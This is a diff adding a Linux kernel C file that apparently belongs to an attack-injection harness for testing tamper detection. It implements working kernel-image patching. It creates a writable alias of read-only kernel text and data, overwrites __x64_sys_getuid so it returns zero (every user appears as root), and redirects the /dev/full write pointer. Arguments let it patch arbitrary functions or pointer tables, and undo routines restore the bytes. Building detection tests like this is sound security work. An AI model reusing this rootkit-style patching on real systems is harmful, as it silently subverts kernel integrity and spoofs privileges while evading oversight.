@@ -1,0 +1,179 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Kernel text and read-only data overwritten through a writable alias, so that
+ * no bookkeeping of Linux knows.
+ */
+#include <linux/fs.h>
+#include <linux/kernel.h>
+#include <linux/mm.h>
+#include <linux/string.h>
+#include <linux/vmalloc.h>
+#include <asm/page.h>
+#include <asm/sections.h>
+#include <asm/tsc.h>
+
+#include "attacks.h"
+
+#define PATCH_MAX	8
+
+struct patch {
+	u8 *at, old[PATCH_MAX], bad[PATCH_MAX];
+	size_t bytes;
+};
+
+/* What lies at @at in a page of its own, writable; NULL without memory. */
+static u8 *alias_map(const u8 *at)
+{
+	struct page *pages[2];
+	unsigned long physical = __pa(at);
+
+	pages[0] = pfn_to_page(PHYS_PFN(physical));
+	pages[1] = pfn_to_page(PHYS_PFN(physical) + 1);
+	at = vmap(pages, ARRAY_SIZE(pages), VM_MAP, PAGE_KERNEL);
+	return at ? (u8 *)at + offset_in_page(physical) : NULL;
+}
+
+static void alias_unmap(u8 *alias)
+{
+	vunmap((void *)((unsigned long)alias & PAGE_MASK));
+}
+
+/* One store where the bytes lie in one word: another CPU may be executing them. */
+static void overwrite(u8 *alias, const u8 *bytes, size_t count)
+{
+	unsigned long offset = (unsigned long)alias % 8;
+	u64 word;
+
+	if (offset + count > 8) {
+		memcpy(alias, bytes, count);
+		return;
+	}
+	word = READ_ONCE(*(u64 *)(alias - offset));
+	memcpy((u8 *)&word + offset, bytes, count);
+	WRITE_ONCE(*(u64 *)(alias - offset), word);
+}
+
+static bool in_kernel_image(unsigned long at, size_t bytes)
+{
+	unsigned long text = symbol("_stext"), text_end = symbol("_etext");
+	unsigned long data = symbol("__start_rodata"), data_end = symbol("__end_rodata");
+
+	return (at >= text && at + bytes <= text_end) ||
+	       (at >= data && at + bytes <= data_end);
+}
+
+static int patch_begin(struct attack *attack, struct patch *patch)
+{
+	unsigned long flags;
+	u8 *alias;
+
+	if (!in_kernel_image((unsigned long)patch->at, patch->bytes))
+		return -EFAULT;
+	alias = alias_map(patch->at);
+	if (!alias)
+		return -ENOMEM;
+	memcpy(patch->old, patch->at, patch->bytes);
+	snprintf(attack->about, sizeof(attack->about), "%pS %*ph was %*ph", patch->at,
+		 (int)patch->bytes, patch->bad, (int)patch->bytes, patch->old);
+	local_irq_save(flags);
+	attack->tsc = rdtsc_ordered();
+	overwrite(alias, patch->bad, patch->bytes);
+	attack_done(attack);
+	local_irq_restore(flags);
+	alias_unmap(alias);
+	return 0;
+}
+
+static bool patch_present(struct patch *patch)
+{
+	return !memcmp(patch->at, patch->bad, patch->bytes);
+}
+
+static void patch_undo(struct patch *patch)
+{
+	u8 *alias;
+
+	if (!patch_present(patch))
+		return;
+	alias = alias_map(patch->at);
+	if (WARN_ON(!alias))
+		return;
+	overwrite(alias, patch->old, patch->bytes);
+	alias_unmap(alias);
+}
+
+static struct patch text;
+
+/* [FUNCTION[+OFFSET]]: it returns 0 from there on. Default: getuid, so that everybody seems to be root. */
+static int text_begin(struct attack *attack, char *argument)
+{
+	static const u8 return_zero[] = { 0x31, 0xc0, 0xc3 };	/* xor %eax,%eax; ret */
+	char function[] = "__x64_sys_getuid";
+	unsigned long at = symbol_with_offset(*argument ? argument : function);
+
+	if (!at)
+		return -ENOENT;
+	text.at = (u8 *)at;
+	text.bytes = sizeof(return_zero);
+	memcpy(text.bad, return_zero, sizeof(return_zero));
+	return patch_begin(attack, &text);
+}
+
+static void text_undo(struct attack *attack)
+{
+	patch_undo(&text);
+}
+
+static bool text_present(struct attack *attack)
+{
+	return patch_present(&text);
+}
+
+struct attack patch_text = {
+	.name = "patch-text",
+	.begin = text_begin,
+	.undo = text_undo,
+	.present = text_present,
+};
+
+static struct patch rodata;
+
+/* [TABLE INDEX FUNCTION]: that entry of a table of pointers. Default: writes to /dev/full succeed. */
+static int rodata_begin(struct attack *attack, char *argument)
+{
+	const char *table = strsep(&argument, " "), *index = strsep(&argument, " ");
+	unsigned long at, value, number;
+
+	if (!*table) {
+		table = "full_fops";
+		number = offsetof(struct file_operations, write) / sizeof(void *);
+		argument = "write_null";
+	} else if (!index || !argument || kstrtoul(index, 0, &number)) {
+		return -EINVAL;
+	}
+	at = symbol(table);
+	value = symbol(argument);
+	if (!at || !value)
+		return -ENOENT;
+	rodata.at = (u8 *)(at + number * sizeof(void *));
+	rodata.bytes = sizeof(value);
+	memcpy(rodata.bad, &value, sizeof(value));
+	return patch_begin(attack, &rodata);
+}
+
+static void rodata_undo(struct attack *attack)
+{
+	patch_undo(&rodata);
+}
+
+static bool rodata_present(struct attack *attack)
+{
+	return patch_present(&rodata);
+}
+
+struct attack patch_rodata = {
+	.name = "patch-rodata",
+	.begin = rodata_begin,
+	.undo = rodata_undo,
+	.present = rodata_present,
+};
